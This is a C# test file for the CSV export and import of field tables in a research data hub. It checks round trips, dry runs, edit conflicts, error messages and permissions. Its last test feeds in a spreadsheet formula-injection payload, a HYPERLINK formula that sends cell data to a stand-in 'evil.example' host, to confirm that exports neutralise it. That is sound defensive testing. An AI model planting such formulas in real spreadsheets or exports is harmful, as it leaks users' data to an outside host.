using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Stemma.Hub.Tests.Support;

namespace Stemma.Hub.Tests.Fields;

public sealed partial class FieldTableTests(TestDatabase database)
{
    private const string Heading = "id,path,row version,Material,Thickness [nm],Made on,Method,Made by,From,Grains\r\n";

    /// <summary>Each version as a v.</summary>
    private static string Versionless(string csv) => Version().Replace(csv, ",v,");

    [GeneratedRegex(",v[0-9a-f]{12},")]
    private static partial Regex Version();

    [Fact]
    public async Task A_table_that_was_taken_out_comes_back_without_a_change()
    {
        await using var stage = await FieldStage.SetAsync(database);
        await stage.SetAsync(stage.Eve, new JsonObject
        {
            ["Material"] = "gold, \"fine\"\nsecond line", ["Thickness"] = "0.1 µm", ["Made on"] = "2026-03-14", ["Method"] = "FIB", ["Made by"] = "Ada", ["From"] = $"node:{stage.Adam}", ["Grains"] = 0.1,
        });
        var csv = await stage.ExportAsync(stage.Project);
        Versionless(csv).ShouldBe($"\uFEFF{Heading}{stage.Adam},March/Adam,v,,,,,,,\r\n{stage.Eve},March/Eve,v,\"gold, \"\"fine\"\"\nsecond line\",100,2026-03-14,FIB,Ada,node:{stage.Adam},0.1\r\n");
        // A second Ada makes the name ambiguous; what was taken out still comes back.
        await stage.Hub.AccountAsync("ada2");
        await using (var connection = await stage.Hub.Database.OpenConnectionAsync())
        await using (var command = connection.CreateCommand())
        {
            command.CommandText = "update people set name = 'Ada'";
            await command.ExecuteNonQueryAsync();
        }

        var (status, report) = await stage.ImportAsync(stage.Project, csv);
        (status, report["rows"]!.GetValue<int>(), report["changeCount"]!.GetValue<int>()).ShouldBe((200, 2, 0), report.ToJsonString());
    }

    [Theory]
    [InlineData(',')]
    [InlineData(';')]
    [InlineData('\t')]
    public async Task A_table_fills_in_and_clears_and_leaves_alone_what_it_does_not_name(char separator)
    {
        await using var stage = await FieldStage.SetAsync(database);
        await stage.SetAsync(stage.Eve, new JsonObject { ["Material"] = "gold", ["Grains"] = 1 });
        await stage.SetAsync(stage.Adam, new JsonObject { ["Material"] = "silver" });
        var csv = string.Join('\n', "id,thickness,Material", $"{stage.Eve},0.2 µm,", "").Replace(',', separator);
        var (_, dry) = await stage.ImportAsync(stage.Project, csv, "?dryRun=true");
        dry["changes"]!.AsArray().Select(change => $"{change!["path"]} {change["field"]}: {change["from"]} → {change["to"]}").ShouldBe(["March/Eve Thickness [nm]:  → 0.2 µm", "March/Eve Material: gold → "]);
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Thickness"))["own"].ShouldBeNull();

        (await stage.ImportAsync(stage.Project, csv)).Status.ShouldBe(200);
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Thickness"))["own"]!["number"]!.GetValue<double>().ShouldBe(200);
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Material"))["own"].ShouldBeNull();
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Grains"))["own"]!["text"]!.GetValue<string>().ShouldBe("1");
        (await stage.FieldAsync($"nodes/{stage.Adam}", "Material"))["own"]!["text"]!.GetValue<string>().ShouldBe("silver");
    }

    [Fact]
    public async Task What_others_changed_since_is_not_taken_back()
    {
        await using var stage = await FieldStage.SetAsync(database);
        await stage.SetAsync(stage.Eve, new JsonObject { ["Material"] = "gold", ["Grains"] = 1 });
        var csv = await stage.ExportAsync(stage.Project);
        await stage.SetAsync(stage.Eve, new JsonObject { ["Grains"] = 2 });

        // Whoever edits the material has the old number of grains beside it.
        var edited = csv.Replace(",gold,", ",silver,", StringComparison.Ordinal);
        var (_, dry) = await stage.ImportAsync(stage.Project, edited, "?dryRun=true");
        var problem = dry["problems"]!.AsArray().Single()!;
        $"{problem["row"]} {problem["column"]}: {problem["problem"]}".ShouldBe("3 row version: \"March/Eve\" was changed since this table was taken out, and differs in Material, Grains; take the table out again, or empty this cell to write over it");
        (await stage.ImportAsync(stage.Project, edited)).Status.ShouldBe(400);
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Grains"))["own"]!["text"]!.GetValue<string>().ShouldBe("2");

        // Without the cell it writes over; and what was taken out anew comes in.
        var emptied = Versionless(edited).Replace(",v,", ",,", StringComparison.Ordinal);
        (await stage.ImportAsync(stage.Project, emptied)).Status.ShouldBe(200);
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Grains"))["own"]!["text"]!.GetValue<string>().ShouldBe("1");
        (await stage.ImportAsync(stage.Project, (await stage.ExportAsync(stage.Project)).Replace(",silver,", ",copper,", StringComparison.Ordinal))).Status.ShouldBe(200);
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Material"))["own"]!["text"]!.GetValue<string>().ShouldBe("copper");
    }

    [Fact]
    public async Task Every_mistake_is_told_with_row_and_column_and_nothing_is_changed()
    {
        await using var stage = await FieldStage.SetAsync(database);
        var elsewhere = await stage.Ada.DatasetAsync(await stage.Ada.ProjectAsync("Other"), "Cain");
        var csv = $"id,path,Material,Thickness [µm],Grains,Method\n{stage.Eve},x,gold,1,few,FIB\n{stage.Adam},x,silver,1,2,etching\nnonsense,x,,,,\n{elsewhere},x,,,,\n{stage.Eve},again,,,,\n{stage.Adam},a,b,c,d,e,f\n";
        var (_, dry) = await stage.ImportAsync(stage.Project, csv, "?dryRun=true");
        dry["problems"]!.AsArray().Select(problem => $"{problem!["row"]} {problem["column"]}: {problem["problem"]!.GetValue<string>().Split(';', ',')[0]}").ShouldBe(
        [
            "1 Thickness [µm]: there is no such field", "2 Grains: expected a number such as 0.2", "3 Method: expected one of FIB", "4 : expected an id",
            $"5 : there is no dataset {elsewhere} below this place", "6 : the id of row 2 stands there once more", "7 : has 7 cells",
        ]);
        var (status, problem) = await stage.ImportAsync(stage.Project, csv);
        (status, problem["type"]!.GetValue<string>()).ShouldBe((400, "urn:stemma:problem:table-refused"));
        problem["detail"]!.GetValue<string>().ShouldContain("Row 2, Grains: expected a number");
        (await stage.FieldAsync($"nodes/{stage.Eve}", "Material"))["own"].ShouldBeNull();
    }

    [Theory]
    [InlineData("")]
    [InlineData("name,Material\nx,gold\n")]
    [InlineData("id,Material\n1,\"gold\n")]
    public async Task What_is_no_such_table_is_refused(string csv)
    {
        await using var stage = await FieldStage.SetAsync(database);
        (await stage.ImportAsync(stage.Project, csv)).Status.ShouldBe(400);
    }

    [Fact]
    public async Task File_sets_have_a_table_too_and_each_change_is_in_the_history_of_its_file_set()
    {
        await using var stage = await FieldStage.SetAsync(database);
        var first = await FieldValueTests.DepositAsync(stage, stage.Eve, "a.xyz");
        var second = await FieldValueTests.DepositAsync(stage, stage.Eve, "b.xyz");
        Versionless(await stage.ExportAsync(stage.Collection, "?of=file-sets")).ShouldBe($"\uFEFF{Heading}{first},Eve/a.xyz,v,,,,,,,\r\n{second},Eve/b.xyz,v,,,,,,,\r\n");
        (await stage.ImportAsync(stage.Collection, $"id,Grains\n{first},1\n{second},2\n", "?of=file-sets")).Status.ShouldBe(200);
        (await stage.Ada.MustAsync("GET", $"file-sets/{second}/events"))["items"]![0]!["words"]!.GetValue<string>().ShouldBe("set Grains to 2");
        (await stage.ImportAsync(stage.Eve, $"id,Grains\n{stage.Eve},1\n", "?of=file-sets")).Status.ShouldBe(400);
    }

    [Fact]
    public async Task Whoever_may_not_edit_may_take_a_table_out_but_not_bring_one_back()
    {
        await using var stage = await FieldStage.SetAsync(database);
        var viewer = await stage.Hub.AccountAsync("vera");
        await stage.Ada.MustAsync("PUT", $"nodes/{stage.Project}/grants/{viewer.Id}", new JsonObject { ["role"] = "viewer" });
        using (var answer = await viewer.SendAsync("GET", $"nodes/{stage.Project}/fields.csv"))
            ((int)answer.StatusCode).ShouldBe(200);
        (await stage.ImportAsync(stage.Project, $"id,Grains\n{stage.Eve},1\n", "?dryRun=true", viewer)).Status.ShouldBe(403);
    }

    [Fact]
    public async Task No_cell_is_taken_for_a_formula_and_what_was_written_comes_back()
    {
        await using var stage = await FieldStage.SetAsync(database);
        string[] written = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+1 to the last", "-drift visible", "@SUM(A1)", "'=quoted", "\tafter a tab", "-5", "-5 °C"];
        foreach (var words in written)
        {
            await stage.SetAsync(stage.Eve, new JsonObject { ["Material"] = words });
            var csv = await stage.ExportAsync(stage.Project);
            var cell = csv.Split("March/Eve,")[1].TrimStart('"');
            (cell[0] is '=' or '+' or '@' or '\t' || cell[0] == '-' && !char.IsAsciiDigit(cell[1])).ShouldBeFalse(csv);
            var (status, report) = await stage.ImportAsync(stage.Project, csv);
            (status, report["changeCount"]!.GetValue<int>()).ShouldBe((200, 0), words);
        }
    }
}
